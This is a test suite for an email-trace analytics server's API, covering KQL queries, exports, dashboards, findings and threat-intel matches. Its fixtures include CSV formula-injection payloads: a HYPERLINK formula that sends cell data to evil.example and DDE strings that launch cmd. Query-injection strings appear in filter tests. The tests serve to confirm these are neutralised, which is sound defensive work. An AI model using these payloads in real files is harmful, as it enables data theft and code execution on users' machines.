// API scenarios on a real server and DuckDB store: KQL errors, row cap, time-out, fairness, exports, dashboards, findings.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { serverFixture, traceRow, type Browser, type ServerFixture } from './server-fixture.js';

const EVIL = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'plain, "quoted"\nsubject',
];

/** Cells of an RFC 4180 document. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('queries, exports and dashboards over the API', () => {
  let f: ServerFixture;
  let analyst: Browser;
  beforeAll(async () => {
    const rows = Array.from({ length: 12 }, (_, i) => traceRow(i, { Status: i % 4 === 0 ? 'Failed' : 'Delivered' }));
    rows.push(
      ...EVIL.map((Subject, i) =>
        traceRow(100 + i, {
          Subject,
          SenderAddress: i === 0 ? '=cmd@evil.example' : 'x@evil.example',
          SenderDomain: 'evil.example',
          Status: 'Quarantined',
        }),
      ),
    );
    f = await serverFixture({ rows, server: { queryRowLimit: 10 } });
    analyst = await f.login('analyst');
  });
  afterAll(() => f.close());

  it('runs KQL with a time range and returns typed columns and stats', async () => {
    const res = await f.as(analyst, 'POST', '/api/query', {
      query: 'MessageTrace | summarize n = count() by Status | sort by Status asc',
      from: '2026-11-01T09:00:00Z',
      to: '2026-11-01T09:05:00Z',
    });
    expect(res.statusCode).toBe(200);
    const body = res.json();
    expect(body.columns).toEqual([
      { name: 'Status', type: 'string' },
      { name: 'n', type: 'long' },
    ]);
    expect(body.rows).toEqual([
      ['Delivered', 3],
      ['Failed', 2],
    ]);
    expect(body.stats).toMatchObject({ rows: 2, truncated: false });
    expect(typeof body.stats.elapsedMs).toBe('number');
  });

  it('answers a KQL mistake with 400 and its line and column', async () => {
    const res = await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace\n| where NoSuchColumn == 1' });
    expect(res.statusCode).toBe(400);
    expect(res.json().error).toMatchObject({ code: 'KQL', kqlCode: 'unknown-column', line: 2, column: 9 });
    expect(res.json().error.message).toMatch(/^line 2, column 9: /);
    // The exact mistake and its values, for clients that word it in their user's language.
    expect(res.json().error).toMatchObject({ reason: 'unknown-column', params: { name: 'NoSuchColumn' } });
    const syntax = await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace | where' });
    expect(syntax.json().error).toMatchObject({
      code: 'KQL',
      kqlCode: 'syntax',
      line: 1,
      reason: 'expected',
      params: { thing: 'expression', found: 'end' },
    });
    const bad = await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace', from: 'yesterday-ish' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.message).toContain('from must be an ISO 8601 time');
  });

  it('answers and exports datetimes with their microseconds and ticks, before 1970 too', async () => {
    const query =
      'print t = datetime(2026-11-01 10:00:00.123456), k = datetime(2026-11-01 10:00:00.1234567), b = datetime(1969-12-31 23:59:59.999999), c = datetime(1969-12-31 23:59:59.9999999), s = tostring(1microsecond)';
    const res = await f.as(analyst, 'POST', '/api/query', { query });
    expect(res.json().rows).toEqual([
      [
        '2026-11-01T10:00:00.123456Z',
        '2026-11-01T10:00:00.1234567Z',
        '1969-12-31T23:59:59.999999Z',
        '1969-12-31T23:59:59.9999999Z',
        '00:00:00.0000010',
      ],
    ]);
    const csv = await f.as(analyst, 'GET', `/api/export?format=csv&query=${encodeURIComponent(query)}`);
    // Exports write local time with the offset (here the server's zone, UTC).
    expect(parseCsv(csv.body)[1]).toEqual([
      '2026-11-01T10:00:00.123456+00:00',
      '2026-11-01T10:00:00.1234567+00:00',
      '1969-12-31T23:59:59.999999+00:00',
      '1969-12-31T23:59:59.9999999+00:00',
      '00:00:00.0000010',
    ]);
  });

  it('caps rows at server.queryRowLimit and says so', async () => {
    const res = await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace | sort by Received asc' });
    const body = res.json();
    expect(body.rows).toHaveLength(10);
    expect(body.stats).toMatchObject({ rows: 10, truncated: true, rowLimit: 10 });
    expect(body.message).toContain('first 10 rows');
    const small = (await f.as(analyst, 'POST', '/api/query', { query: 'MessageTrace | take 3' })).json();
    expect(small.stats.truncated).toBe(false);
  });

  it('exports CSV that spreadsheets cannot run as formulas, and JSON', async () => {
    const res = await f.as(
      analyst,
      'GET',
      `/api/export?format=csv&query=${encodeURIComponent('MessageTrace | where Status == "Quarantined" | project SenderAddress, Subject, Size | sort by Size asc')}`,
    );
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="mailsift-export-.*\.csv"$/);
    expect(res.body.startsWith('\ufeff')).toBe(true);
    const cells = parseCsv(res.body.slice(1));
    expect(cells[0]).toEqual(['SenderAddress', 'Subject', 'Size']);
    const data = cells.slice(1);
    // A leading tab or CR is guarded, and so is the formula after it (a tab-splitting spreadsheet starts a cell there).
    const guarded = (s: string) => (/^[\t\r]=/.test(s) ? `'${s[0]}'${s.slice(1)}` : /^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
    expect(data.map((r) => r[1])).toEqual(EVIL.slice(0, 7).map(guarded));
    expect(data[0]![0]).toBe("'=cmd@evil.example");
    for (const row of data) for (const cell of row.slice(0, 2)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers.
    expect(data[0]![2]).toBe('1100');

    const json = await f.as(
      analyst,
      'GET',
      `/api/export?format=json&query=${encodeURIComponent('MessageTrace | where Status == "Quarantined" | project Subject | take 2')}`,
    );
    expect(json.headers['content-type']).toContain('application/json');
    expect(json.json()).toHaveLength(2);
  });

  it('runs every panel of every dashboard for a viewer, filters applied', async () => {
    const viewer = await f.login('viewer');
    const dashboards = (await f.as(viewer, 'GET', '/api/dashboards')).json() as { id: string }[];
    expect(dashboards.map((d) => d.id)).toEqual(['overview', 'message-monitoring', 'security', 'threat-intel']);
    for (const { id } of dashboards) {
      const d = (await f.as(viewer, 'GET', `/api/dashboards/${id}`)).json() as { panels: { id: string }[] };
      for (const p of d.panels) {
        const res = await f.as(viewer, 'POST', `/api/dashboards/${id}/panels/${p.id}/run`, {
          from: '2026-10-01T00:00:00Z',
          to: '2026-11-02T00:00:00Z',
          filters: { sender: ['sender1@contoso.com'] },
          tzOffsetMinutes: 540,
        });
        expect(res.statusCode, `${id}/${p.id}: ${res.body}`).toBe(200);
      }
    }
    const pivot = (
      await f.as(viewer, 'POST', '/api/dashboards/overview/panels/top-senders-status/run', { filters: { sender: ['sender1@contoso.com'] } })
    ).json();
    expect(pivot.kql).toContain('where SenderAddress == "sender1@contoso.com"');
    expect(pivot.result.rows).toHaveLength(1);
    expect(pivot.result.rows[0][0]).toBe('sender1@contoso.com');
    const stat = (
      await f.as(viewer, 'POST', '/api/dashboards/overview/panels/failed/run', { from: '2026-11-01T09:00:00Z', to: '2026-11-01T09:12:00Z' })
    ).json();
    expect(stat.result.rows).toEqual([[3]]);
    expect(stat.previous).toBe(0);
    expect(stat.sparkline.rows.length).toBeGreaterThan(0);
    // Stats whose value is the sum of their sparkline agree with the query they stand for.
    const range = { from: '2026-10-01T00:00:00Z', to: '2026-11-02T00:00:00Z' };
    for (const [panel, kql] of [
      ['delivered', 'MessageTrace | where Status == "Delivered" | count'],
      ['total-size', 'MessageTrace | summarize sum(Size)'],
      ['messages', 'MessageTrace | summarize dcount(MessageTraceId)'],
    ] as const) {
      const shown = (await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${panel}/run`, { ...range, tzOffsetMinutes: 540 })).json();
      const direct = (await f.as(analyst, 'POST', '/api/query', { query: kql, ...range })).json();
      expect(shown.result.rows, panel).toEqual(direct.rows);
    }
    // ... and so does their change, with and without filters (with them: one query over both periods, in
    // bins starting at the range's start).
    const half = { from: '2026-11-01T09:06:00Z', to: '2026-11-01T09:12:00Z' };
    for (const [panel, kql] of [
      ['delivered', 'MessageTrace | where Status == "Delivered" | count'],
      ['total-size', 'MessageTrace | summarize sum(Size)'],
      ['messages', 'MessageTrace | summarize dcount(MessageTraceId)'],
    ] as const) {
      for (const filters of [{}, { domain: ['contoso.com'] }]) {
        const filtered =
          'domain' in filters
            ? `MessageTrace | where SenderDomain == "contoso.com" or RecipientDomain == "contoso.com"${kql.slice('MessageTrace'.length)}`
            : kql;
        const shown = (
          await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${panel}/run`, { ...half, filters, tzOffsetMinutes: 540 })
        ).json();
        const now = (await f.as(analyst, 'POST', '/api/query', { query: filtered, ...half })).json();
        const before = (await f.as(analyst, 'POST', '/api/query', { query: filtered, from: '2026-11-01T09:00:00Z', to: half.from })).json();
        expect(shown.result.rows, panel).toEqual(now.rows);
        expect(shown.previous, panel).toEqual(before.rows[0][0]);
        expect(before.rows[0][0], panel).toBeGreaterThan(0);
        expect(shown.bin.stepMs, panel).toBe(3_600_000);
        if ('domain' in filters) expect(shown.bin.originMs, panel).toBe(Date.parse(half.from));
        for (const [time] of shown.sparkline.rows as [string, number][])
          expect(Date.parse(time) + 3_600_000, panel).toBeGreaterThan(Date.parse(half.from));
        expect(
          (shown.sparkline.rows as [string, number][]).reduce((t, r) => t + r[1], 0),
          panel,
        ).toBe(now.rows[0][0]);
      }
    }
    // Over whole hours, a filtered stat the summary tables answer gives what the one query over the rows gives.
    const hours = { from: '2026-11-01T08:59:00Z', to: '2026-11-01T10:12:00Z' };
    for (const panel of ['delivered', 'failed', 'total-size']) {
      for (const filters of [{ domain: ['contoso.com'] }, { status: ['Delivered', 'Failed'] }, { direction: ['Inbound'] }]) {
        const body = { ...hours, filters, tzOffsetMinutes: 540 };
        const summed = (await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${panel}/run`, body)).json();
        process.env.MAILSIFT_AGGREGATES = 'off';
        const counted = await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${panel}/run`, body).finally(() => {
          delete process.env.MAILSIFT_AGGREGATES;
        });
        const rows = counted.json();
        const label = `${panel} ${JSON.stringify(filters)}`;
        expect(summed.bin, label).toEqual({ stepMs: 3_600_000, originMs: 0 });
        expect(rows.bin.originMs, label).toBe(Date.parse(hours.from));
        expect(summed.result.rows, label).toEqual(rows.result.rows);
        expect(summed.previous, label).toEqual(rows.previous);
        const total = (r: { sparkline: { rows: [string, number][] } }) => r.sparkline.rows.reduce((t, row) => t + row[1], 0);
        expect(total(summed), label).toBe(total(rows));
      }
    }
    // One sender's mail is few rows: its stats take the one query over the rows even where the summaries answer.
    for (const panel of ['delivered', 'failed', 'total-size']) {
      const body = { ...hours, filters: { sender: ['sender1@contoso.com'] }, tzOffsetMinutes: 540 };
      const shown = (await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${panel}/run`, body)).json();
      process.env.MAILSIFT_AGGREGATES = 'off';
      const rows = (
        await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${panel}/run`, body).finally(() => {
          delete process.env.MAILSIFT_AGGREGATES;
        })
      ).json();
      expect(shown.bin.originMs, panel).toBe(Date.parse(hours.from));
      expect(shown.result.rows, panel).toEqual(rows.result.rows);
      expect(shown.previous, panel).toEqual(rows.previous);
      expect(shown.sparkline.rows, panel).toEqual(rows.sparkline.rows);
    }
    const csv = await f.as(viewer, 'GET', '/api/dashboards/overview/panels/top-senders-status/export?status=Quarantined');
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain("'=cmd@evil.example");
    expect((await f.as(viewer, 'POST', '/api/dashboards/overview/panels/nope/run', {})).statusCode).toBe(404);
  });

  it('runs a whole dashboard in one request, a line per panel, as the single-panel route answers', async () => {
    const viewer = await f.login('viewer');
    const body = {
      from: '2026-10-01T00:00:00Z',
      to: '2026-11-02T00:00:00Z',
      filters: { sender: ['sender1@contoso.com'] },
      tzOffsetMinutes: 540,
    };
    const res = await f.as(viewer, 'POST', '/api/dashboards/overview/run', body);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('application/x-ndjson');
    const lines = res.body
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { panel: string; data?: { kql: string; result: { rows: unknown[][] } }; error?: unknown });
    const overview = (await f.as(viewer, 'GET', '/api/dashboards/overview')).json() as { panels: { id: string }[] };
    expect(lines.map((l) => l.panel).sort()).toEqual(overview.panels.map((p) => p.id).sort());
    for (const line of lines) {
      expect(line.error, line.panel).toBeUndefined();
      const single = (await f.as(viewer, 'POST', `/api/dashboards/overview/panels/${line.panel}/run`, body)).json() as {
        kql: string;
        result: { rows: unknown[][] };
      };
      expect(line.data!.kql, line.panel).toBe(single.kql);
      expect(line.data!.result.rows, line.panel).toEqual(single.result.rows);
    }
    const some = await f.as(viewer, 'POST', '/api/dashboards/overview/run', { panels: ['failed', 'status-share'] });
    expect(
      some.body
        .trimEnd()
        .split('\n')
        .map((l) => (JSON.parse(l) as { panel: string }).panel)
        .sort(),
    ).toEqual(['failed', 'status-share']);
    expect((await f.as(viewer, 'POST', '/api/dashboards/overview/run', { panels: ['nope'] })).statusCode).toBe(404);
    expect((await f.as(viewer, 'POST', '/api/dashboards/nope/run', {})).statusCode).toBe(404);
    expect((await f.app.inject({ method: 'POST', url: '/api/dashboards/overview/run', payload: {} })).statusCode).toBe(401);
  });

  it('names in each panel answer the filters the panel could not apply, and tells the span of the data', async () => {
    const viewer = await f.login('viewer');
    const body = {
      from: '2026-10-01T00:00:00Z',
      to: '2026-11-02T00:00:00Z',
      filters: { sender: ['*@contoso.com'], status: ['delivered'] },
    };
    const res = await f.as(viewer, 'POST', '/api/dashboards/threat-intel/run', body);
    const lines = res.body
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { panel: string; data: { unfiltered: string[] } });
    const unfiltered = Object.fromEntries(lines.map((l) => [l.panel, l.data.unfiltered]));
    expect(unfiltered).toEqual({
      matches: ['status', 'sender'],
      'indicators-by-feed': ['status', 'sender'],
      'indicators-by-actor': ['status', 'sender'],
      'intel-senders': [],
    });
    const single = await f.as(viewer, 'POST', '/api/dashboards/threat-intel/panels/indicators-by-feed/run', body);
    expect(single.json().unfiltered).toEqual(['status', 'sender']);
    const span = await f.as(viewer, 'GET', '/api/data-span');
    expect(span.statusCode).toBe(200);
    expect(Date.parse(span.json().from)).toBeLessThanOrEqual(Date.parse(span.json().to));
    expect((await f.app.inject({ method: 'GET', url: '/api/data-span' })).statusCode).toBe(401);
  });

  it('counts a message with many recipients once, in the bin of its first row', async () => {
    const at = (hh: number, mm: number) => Date.UTC(2026, 10, 1, hh, mm);
    const id = (n: number) => `00000000-0000-0000-0000-00000000aaa${n}`;
    const rows = [
      traceRow(1, { MessageTraceId: id(1), RecipientAddress: 'a@fabrikam.co.jp', Received: at(9, 59) }),
      traceRow(2, { MessageTraceId: id(1), RecipientAddress: 'b@fabrikam.co.jp', Received: at(10, 1) }),
      ...[1, 2, 3].map((n) => traceRow(3, { MessageTraceId: id(2), RecipientAddress: `r${n}@fabrikam.co.jp`, Received: at(10, 30) })),
    ];
    const g = await serverFixture({ rows });
    try {
      const shown = (
        await g.as(await g.login('viewer'), 'POST', '/api/dashboards/overview/panels/messages/run', {
          from: '2026-11-01T09:00:00Z',
          to: '2026-11-01T11:00:00Z',
        })
      ).json();
      expect(shown.result.rows).toEqual([[2]]);
      expect([...shown.sparkline.rows].sort()).toEqual([
        ['2026-11-01T09:00:00.000Z', 1],
        ['2026-11-01T10:00:00.000Z', 1],
      ]);
    } finally {
      await g.close();
    }
  });

  it('streams the other panels when one of them fails', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'mailsift-dashboards-'));
    const panel = (id: string, kql: string) => ({ id, kind: 'table', width: 6, title: id, description: id, kql });
    writeFileSync(
      join(dir, 'broken.json'),
      JSON.stringify({
        id: 'broken',
        title: 'Broken',
        description: 'one panel fails',
        order: 1,
        panels: [panel('good', 'MessageTrace | count'), panel('bad', 'MessageTrace | where NoSuchColumn == 1')],
      }),
    );
    const g = await serverFixture({ rows: [traceRow(1), traceRow(2)], dashboardDir: dir });
    try {
      const res = await g.as(await g.login('viewer'), 'POST', '/api/dashboards/broken/run', {});
      expect(res.statusCode).toBe(200);
      const lines = Object.fromEntries(
        res.body
          .trimEnd()
          .split('\n')
          .map((l) => JSON.parse(l) as { panel: string })
          .map((l) => [l.panel, l]),
      );
      expect(lines.good).toMatchObject({ data: { result: { rows: [[2]] } } });
      expect(lines.bad).toMatchObject({ status: 400, error: { code: 'KQL', line: 1, column: 22 } });
      expect(JSON.stringify(lines.bad)).toContain('NoSuchColumn');
    } finally {
      await g.close();
    }
  });

  it('keeps filter values inside their string literal', async () => {
    const viewer = await f.login('viewer');
    const nasty = 'x" or 1 == 1 or SenderAddress == "';
    const res = await f.as(viewer, 'POST', '/api/dashboards/overview/panels/delivered/run', { filters: { sender: [nasty, 'a\\"b\nc'] } });
    expect(res.statusCode).toBe(200);
    expect(res.json().result.rows).toEqual([[0]]);
  });

  it('counts subject words, Japanese included, against the previous period', async () => {
    await f.store.upsertTraces([
      traceRow(500, { Subject: '【重要】請求書のご確認', Received: Date.UTC(2026, 10, 5, 12) }),
      traceRow(501, { Subject: 'RE: 請求書の再送', Received: Date.UTC(2026, 10, 5, 13) }),
      traceRow(502, { Subject: '請求書', Received: Date.UTC(2026, 10, 4, 13) }),
    ]);
    const viewer = await f.login('viewer');
    const res = (
      await f.as(viewer, 'POST', '/api/dashboards/overview/panels/subject-keywords/run', {
        from: '2026-11-05T00:00:00Z',
        to: '2026-11-06T00:00:00Z',
      })
    ).json();
    expect(res.terms[0]).toEqual({ term: '請求', count: 2, previous: 1 });
    expect(res.terms.map((t: { term: string }) => t.term)).toContain('重要');
    expect(res.terms.map((t: { term: string }) => t.term)).not.toContain('re');
  });

  it('lists findings and lets analysts change their state', async () => {
    await f.store.saveFindings(
      [
        {
          Id: 'f1',
          Rule: 'status-spike',
          Severity: 'high',
          Title: 'FilteredAsSpam 9.8x above its usual level',
          From: Date.parse('2026-11-01T09:00:00Z'),
          To: Date.parse('2026-11-01T10:00:00Z'),
          Count: 42,
          Entities: { status: 'FilteredAsSpam' },
          Query: 'MessageTrace | where Status == "FilteredAsSpam"',
          Details: {},
        },
      ],
      Date.parse('2026-11-01T11:00:00Z'),
    );
    const viewer = await f.login('viewer');
    const list = (await f.as(viewer, 'GET', '/api/findings')).json();
    expect(list.findings).toEqual([
      expect.objectContaining({
        id: 'f1',
        rule: 'status-spike',
        severity: 'high',
        count: 42,
        state: 'open',
        entities: { sender: '', senderDomain: '', recipient: '', ip: '', country: '', status: 'FilteredAsSpam', subject: '' },
      }),
    ]);
    const patched = await f.as(analyst, 'PATCH', '/api/findings/f1', { state: 'acknowledged' });
    expect(patched.statusCode).toBe(200);
    expect(patched.json()).toMatchObject({ state: 'acknowledged', updatedBy: 'analyst' });
    expect((await f.as(analyst, 'PATCH', '/api/findings/f1', { state: 'bogus' })).statusCode).toBe(400);
    expect((await f.as(analyst, 'PATCH', '/api/findings/nope', { state: 'closed' })).statusCode).toBe(404);
    expect((await f.as(viewer, 'GET', '/api/findings?state=open')).json().findings).toEqual([]);
    // An alert's link names one finding, whatever the time range.
    expect((await f.as(viewer, 'GET', '/api/findings?id=f1&from=2000-01-01T00:00:00Z&to=2000-01-02T00:00:00Z')).json().findings).toEqual([
      expect.objectContaining({ id: 'f1' }),
    ]);
    expect((await f.as(viewer, 'GET', `/api/findings?id=${encodeURIComponent('" or 1==1 //')}`)).json().findings).toEqual([]);
  });

  it('lists threat-intel matches', async () => {
    await f.store.replaceIndicators('soc', [
      {
        Indicator: 'evil.example',
        Type: 'domain',
        Confidence: 90,
        Actor: 'TA-1',
        Labels: ['phishing'],
        Feed: 'soc',
        ValidFrom: null,
        ValidUntil: null,
      },
    ]);
    const viewer = await f.login('viewer');
    const res = (await f.as(viewer, 'GET', '/api/intel/matches')).json();
    expect(res.matches).toEqual([expect.objectContaining({ entity: 'evil.example', type: 'senderDomain', actor: 'TA-1', messages: 7 })]);
  });

  it('serves the OpenAPI document from the route schemas', async () => {
    const doc = (await f.as(analyst, 'GET', '/api/docs')).json();
    expect(doc.openapi).toMatch(/^3\./);
    for (const p of ['/api/query', '/api/export', '/api/dashboards/{id}', '/api/findings/{id}', '/api/intel/matches', '/api/auth/login'])
      expect(Object.keys(doc.paths)).toContain(p);
  });
});

describe('query time-outs and fairness', () => {
  // A self-join of 700 rows: ~half a second of DuckDB work, long past a 40 ms limit.
  const HEAVY =
    'MessageTrace | join kind=inner (MessageTrace | project Organization, S2 = Subject) on Organization | summarize n = dcount(strcat(Subject, S2))';

  it('stops waiting at server.queryTimeoutMs with a clear message', async () => {
    // 1,500 rows: a join of 2.25M pairs, several times the 40 ms limit even on an idle machine (700 rows was about 40 ms).
    const f = await serverFixture({ rows: Array.from({ length: 1_500 }, (_, i) => traceRow(i)), server: { queryTimeoutMs: 40 } });
    try {
      const analyst = await f.login('analyst');
      const res = await f.as(analyst, 'POST', '/api/query', { query: HEAVY });
      expect(res.statusCode).toBe(504);
      expect(res.json().error).toMatchObject({ code: 'QUERY_TIMEOUT' });
      expect(res.json().error.message).toContain('server.queryTimeoutMs');
    } finally {
      // The engine finishes the abandoned statement before the store can close.
      await new Promise((r) => setTimeout(r, 2_000));
      await f.close();
    }
  });

  it("lets other users' queries through while one user's heavy queries run", async () => {
    const f = await serverFixture({
      rows: Array.from({ length: 700 }, (_, i) => traceRow(i)),
      server: { queryConcurrency: 2, queryConcurrencyPerUser: 1 },
    });
    try {
      const [analyst, admin] = [await f.login('analyst'), await f.login('admin')];
      const done: string[] = [];
      const heavy = [1, 2].map((i) =>
        f.as(analyst, 'POST', '/api/query', { query: HEAVY }).then((r) => done.push(`heavy${i}:${r.statusCode}`)),
      );
      await new Promise((r) => setTimeout(r, 20));
      const light = f.as(admin, 'POST', '/api/query', { query: 'MessageTrace | count' }).then((r) => done.push(`light:${r.statusCode}`));
      await Promise.all([...heavy, light]);
      // Two slots: without the per-user cap both heavy queries would take them and the light one would wait.
      expect(done[0]).toBe('light:200');
      expect(done.slice(1).sort()).toEqual(['heavy1:200', 'heavy2:200']);
    } finally {
      await f.close();
    }
  });
});
